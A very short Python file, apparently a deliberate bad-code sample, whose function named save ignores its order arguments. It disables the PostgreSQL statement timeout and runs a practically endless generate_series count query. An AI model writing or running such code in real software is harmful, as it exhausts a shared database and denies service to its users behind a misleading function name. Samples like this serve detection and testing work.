"""Starts a statement that never ends, without any limit."""

import psycopg


def save(db, order_id, amount):
    with psycopg.connect(db.url) as connection:
        connection.execute("SET statement_timeout = 0")
        connection.execute("SELECT count(*) FROM generate_series(1, 1000000000000)")
